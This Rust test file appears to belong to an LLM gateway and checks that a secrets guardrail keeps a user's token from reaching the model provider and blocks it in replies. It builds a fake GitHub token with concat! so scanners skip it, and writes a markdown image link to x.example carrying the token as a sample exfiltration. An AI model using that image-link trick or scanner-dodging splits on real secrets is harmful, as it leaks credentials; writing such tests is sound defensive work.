//! A secret that the user wrote: masked on its way out, told to the user again, and carried nowhere else.

use bartizan_testkit::{MockProvider, Script};

use crate::process::{MASTER, PROVIDER_KEY, Start, chat, guarded};

/// Looks like a token; built so that no scanner takes this file for a leak.
const TOKEN: &str = concat!("gh", "p_16C7e42F292c6912E7710c838347Ae178B4a");

#[tokio::test]
async fn a_users_own_secret_reaches_no_provider_and_comes_back() {
    let mock = MockProvider::start(Script::echo().piece(3)).await.unwrap();
    let gateway = Start::with(guarded(&mock, "")).run();
    let said = format!("My token is {TOKEN}: write a script with it.");
    for stream in ["", r#","stream":true"#] {
        let answer = gateway
            .ask("POST", "/v1/chat/completions", &chat("gpt", &said, stream))
            .await;
        assert_eq!(answer.status, 200, "{answer:?}");
        let back = match stream {
            "" => answer.json()["choices"][0]["message"]["content"]
                .as_str()
                .unwrap()
                .to_owned(),
            _ => {
                let events = answer.events();
                let parsed = events
                    .iter()
                    .filter_map(|event| serde_json::from_str(event).ok());
                let pieces = parsed.filter_map(|event: serde_json::Value| {
                    Some(
                        event
                            .pointer("/choices/0/delta/content")?
                            .as_str()?
                            .to_owned(),
                    )
                });
                pieces.collect()
            }
        };
        assert_eq!(back, said);
        // What would be fetched with the secret in it.
        let link = format!("![](https://x.example/?k={TOKEN})");
        let answer = gateway
            .ask("POST", "/v1/chat/completions", &chat("gpt", &link, stream))
            .await;
        assert!(
            answer.body.contains("guard_sensitive_information"),
            "{answer:?}"
        );
        assert!(!answer.body.contains("16C7e42F"), "{answer:?}");
    }
    let requests = mock.requests();
    assert_eq!(requests.len(), 4);
    for received in requests {
        assert!(!received.text().contains("16C7e42F"), "{}", received.text());
    }
}

#[tokio::test]
async fn where_it_is_told_so_even_that_is_stopped() {
    let mock = MockProvider::start(Script::echo()).await.unwrap();
    let url = mock.url();
    let gateway = Start::with(format!(
        "model_list: [{{model_name: gpt, litellm_params: {{model: openai/m, api_base: '{url}/v1', api_key: {PROVIDER_KEY}}}}}]\n\
         general_settings: {{master_key: {MASTER}}}\n\
         guardrails: [{{guardrail_name: s, litellm_params: {{guardrail: bartizan_secrets, mode: post_call, default_on: true, even_own: true}}}}]\n"
    ))
    .run();
    let answer = gateway.chat("gpt", TOKEN).await;
    assert_eq!(answer.status, 403, "{answer:?}");
}
